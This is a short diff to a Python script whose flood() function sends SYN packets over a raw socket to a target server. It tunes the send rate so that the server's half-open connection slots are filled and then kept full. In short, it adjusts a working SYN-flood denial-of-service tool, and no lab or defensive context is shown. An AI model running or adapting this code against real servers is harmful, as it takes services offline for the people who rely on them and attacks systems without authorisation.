@@ -46,7 +46,8 @@ stop, full = threading.Event(), threading.Event()
 def flood():
     n = 0
     while not stop.is_set():
-        for _ in range(32):
+        # Many until none is free; then more than become free.
+        for _ in range(4 if full.is_set() else 16):
             try:
                 raw.sendto(syn(), (SERVER, 0))
             except OSError:
@@ -54,7 +55,7 @@ def flood():
             n += 1
         if n >= OURS:
             full.set()
-        stop.wait(0.002)  # so that the machine gets to its other packets
+        stop.wait(0.005)  # so that the machine gets to its other packets
 
 
 thread = threading.Thread(target=flood)
